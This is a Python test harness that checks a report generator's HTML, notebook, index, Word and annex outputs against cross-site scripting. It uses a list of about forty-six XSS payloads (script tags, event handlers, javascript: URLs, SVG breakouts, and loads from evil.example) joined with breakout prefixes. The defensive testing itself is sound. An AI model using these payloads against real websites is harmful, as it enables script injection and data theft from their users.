"""Script and outside addresses in every text that a page shows: nothing runs, nothing is asked.

    python -m benchmarks.faults.xss [--count N] [--quick] [--seed N]

Each payload stands in each sink: title, heading, caption, head and cell of tables, names, sources
with addresses, file, sheet, cell and raw text of an origin (in the table and on hover), alternative
text, Markdown, HTML and SVG outputs of a notebook, region and title in the index, and the coloured
table of ``lianhu ingest --explain`` in a notebook.  Chromium opens the pages twice: as published,
and without their content policy, so that each line of defence stands alone.  The same texts go into
Word and the annex, which must hold no field, link or formula of theirs.  Bar: 0 executed,
0 requests.  Control: the same texts joined without escaping.
"""

from __future__ import annotations

import io
import itertools
import re
import sys
import tempfile
import zipfile
from collections.abc import Sequence
from contextlib import suppress
from pathlib import Path
from typing import Any

import nbformat
import pandas as pd

from benchmarks.faults.formulas import live_parts
from benchmarks.faults.house import Tally, end, options
from lianhu_analysis.errors import ReportError
from lianhu_analysis.render import tables
from lianhu_analysis.render.intake import coloured_table
from lianhu_analysis.render.publishing import publish
from lianhu_analysis.render.publishing.annex import render_annex
from lianhu_analysis.render.publishing.page import render_page, sanitise, traced_body
from lianhu_analysis.render.publishing.word import render_word
from lianhu_analysis.render.register import FigureRegister
from lianhu_analysis.render.tables import Html
from tests.render.browser import CHROMIUM, browser

__all__ = ["main", "payloads"]

CALL = "alert`x`"
BASES = (
    "<script>{c}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<svg onload={c}>",
    "<svg><script>{c}</script></svg>", "<svg><animate onbegin={c} attributeName=x></svg>",
    "<img src=x onerror={c}>", "<img src=//evil.example/p.png>", "<image href=//evil.example/p.png>",
    "<img srcset='//evil.example/p.png x'>", "<video src=//evil.example/v onerror={c}></video>",
    "<audio src=x onerror={c}></audio>", "<source src=//evil.example/s onerror={c}>",
    "<a href='javascript:{c}' autofocus onfocus={c}>x</a>", "<iframe src='javascript:{c}'></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<iframe src=//evil.example></iframe>",
    "<embed src=//evil.example/x>", "<object data=//evil.example/x></object>",
    "<style>@import url(//evil.example/x.css)</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>", "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><input autofocus onfocus={c}></form>", "<body onload={c}>",
    "<details open ontoggle={c}>x</details>", "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}></select>", "<textarea autofocus onfocus={c}></textarea>",
    "<marquee onstart={c}>x</marquee>", "<math><mtext><script>{c}</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'></noscript>", "<!--><script>{c}</script>-->",
    "<template><script>{c}</script></template>", "<x onanimationstart={c} style='animation:x'>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</table>",
    "![x](//evil.example/p.png)", "[x](javascript:{c})", "<svg><use href=//evil.example/x.svg></svg>",
    "<svg><foreignObject><script>{c}</script></foreignObject></svg>", "<portal src=//evil.example></portal>",
    "<svg><style><img src=x onerror={c}></style></svg>", "{{{{ {c} }}}}", "${{{c}}}", "<%= {c} %>",
)  # fmt: skip
BEFORE = ("", '">', "'>", "</title></style></td>", "--></textarea>", "\u2028")
# A picture of one point.
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
PER_PAGE = 24
WATCH = (
    "window.ran = []; for (const name of ['alert', 'prompt', 'confirm', 'open', 'fetch'])"
    " window[name] = (...text) => { window.ran.push(name); };"
)
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


def payloads() -> list[str]:
    """Return every base behind every way to break out of where it stands."""
    return [before + base.format(c=CALL) for before, base in itertools.product(BEFORE, BASES)]


def register_of(texts: Sequence[str]) -> tuple[FigureRegister, list[Html]]:
    """Register a figure for each text, with it in every field of its origin."""
    register = FigureRegister()
    printed = []
    for text in texts:
        row = {
            "region": "610104", "indicator": "gdp.total", "measure": "yoy", "span": "ytd",
            "period": "2024Q3", "value": 5.3, "published": "2024-10-29", "status": "ok",
            "provenance": "official", "sheet": text, "cell": text, "token": text,
            "source": f"data/raw/{text}.xlsx | {text} | https://example.org/{text}",
        }  # fmt: skip
        printed.append(register.observation(row))
        register.probability(0.2, label=text, model=text, as_of="2024-10-31")
    return register, printed


def report_page(texts: Sequence[str]) -> tuple[str, str, FigureRegister]:
    """Return a page with the texts in every sink that the program itself fills, and its body."""
    register, printed = register_of(texts)
    body = "".join(
        tables.heading(2, text)
        + tables.paragraph(text, tables.name(text), tables.code(text), figure)
        + tables.cite(text, f"https://example.org/{text}")
        + tables.bullet_list([text])
        + tables.html_table([text, text], [[text, figure]], text)
        + f'<img src="data:image/png;base64,{PIXEL}" alt="{tables.join(text)}">'
        for text, figure in zip(texts, printed, strict=True)
    )
    body = sanitise(body)
    return render_page(body, register, title="".join(texts)), body, register


def notebook_page(kind: str, texts: Sequence[str], folder: Path) -> str:
    """Return the page of a notebook that shows the texts as outputs, or as cells, of one kind.

    Raises
    ------
    ReportError
        If a report with one of them is not published.
    """
    if kind == "cell":
        cells = [nbformat.v4.new_markdown_cell(text) for text in texts]
    else:
        cells = [nbformat.v4.new_code_cell("x")]
        cells[0].outputs = [
            nbformat.v4.new_output("display_data", data={kind: text}) for text in texts
        ]
    file = folder / "shown.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=cells), file)
    body = traced_body(file, FigureRegister(), title="某区")
    return render_page(body, FigureRegister(), title="某区")


def notebook_pages(texts: Sequence[str], folder: Path) -> dict[str, str]:
    """Return a page by kind of output, of the texts that such an output may hold."""
    pages = {}
    for kind in ("text/html", "text/markdown", "text/plain", "image/svg+xml", "cell"):
        taken = []
        for text in texts:
            with suppress(ReportError):
                notebook_page(kind, [text], folder)
                taken.append(text)
        if taken:
            pages[f"notebook {kind} ({len(taken)} of {len(texts)})"] = notebook_page(
                kind, taken, folder
            )
    return pages


def index_page(texts: Sequence[str], folder: Path) -> str:
    """Return the index of a report whose title and region are the texts."""
    every = "".join(texts)
    name = "610104-2024Q3"
    (folder / f"{name}.html").write_text("x", encoding="utf-8")
    entry = publish.ManifestEntry(
        name=name, title=every, region="610104", region_zh=every, quarter=every, as_of=every,
        language="zh", simulated=False, fingerprint="x", inputs={}, parameters={}, versions={},
    )  # fmt: skip
    publish.publish(folder, folder / "reports", entry)
    return (folder / "reports" / publish.INDEX_NAME).read_text(encoding="utf-8")


def explained_page(texts: Sequence[str]) -> str:
    """Return what a notebook shows of a file whose cells are the texts."""
    rows = [(number, 1, text, "read", text) for number, text in enumerate(texts, 1)]
    frame = pd.DataFrame(rows, columns=["row", "column", "text", "state", "hint"])
    return f"<!DOCTYPE html><body>{coloured_table(frame, ''.join(texts))}</body>"


def look(page: Any, text: str, folder: Path) -> list[str]:
    """Open a page in Chromium; return what ran and what was asked for."""
    file = folder / "page.html"
    file.write_text(text, encoding="utf-8")
    page.requests.clear()
    page.open(file, width=1000)
    page.ask("document.querySelectorAll('*').forEach(e => { e.focus?.(); }); true")
    ran = page.ask("window.ran")
    asked = [url for url in page.requests if not url.startswith(("data:", file.as_uri()))]
    where = page.ask("location.href")
    strayed = [] if where.startswith(file.as_uri()) else [f"went to {where}"]
    return [f"ran {name}" for name in ran or ()] + asked + strayed


def offices(body: str, register: FigureRegister, title: str) -> list[str]:
    """Return what is live in the Word form and the annex."""
    with zipfile.ZipFile(io.BytesIO(render_word(body, title=title))) as package:
        links = package.read("word/_rels/document.xml.rels")
        fields = set(re.findall(rb"<w:instrText[^>]*>([^<]*)", package.read("word/document.xml")))
    live = [f"Word: {field!r}" for field in fields] + ["Word: link"] * (b"evil" in links)
    refs = [figure.ref for figure in register]
    return live + live_parts(render_annex(register, refs, title=title, simulated=False))


def main(arguments: Sequence[str] | None = None) -> int:
    """Run the bench and its control."""
    chosen = options(__doc__, len(payloads()), 46).parse_args(arguments)
    if CHROMIUM is None:
        print("FAILS: no Chromium here, so no page was looked at")
        return 1
    tally, control = Tally(), Tally()
    texts = payloads()[: chosen.count]
    # A helper of the browser that is being ended may hold its folder a moment longer.
    made = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
    with made as folder, browser(Path(folder) / "profile") as page:
        place = Path(folder)
        page.call("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
        bare = "<!DOCTYPE html><body>" + "".join(texts[:PER_PAGE])
        control.expect(not look(page, bare, place), "unescaped")
        for start in range(0, len(texts), PER_PAGE):
            some = texts[start : start + PER_PAGE]
            whole, body, register = report_page(some)
            pages = {
                "report": whole,
                "index": index_page(some, place),
                "explained": explained_page(some),
            }
            pages |= notebook_pages(some, place)
            for name, text in pages.items():
                for policy in ("with", "without"):
                    found = look(page, text if policy == "with" else POLICY.sub("", text), place)
                    tally.expect(
                        not found, f"{name} {policy} policy, from payload {start}: {found[:4]}"
                    )
            live = offices(body, register, "".join(some))
            tally.expect(not live, f"from payload {start}: {live}")
    figure = f"{len(tally.missed)} of {tally.trials} pages and documents ran or asked for anything"
    return end(f"{figure} ({len(texts)} payloads)", tally, control)


if __name__ == "__main__":
    sys.exit(main())
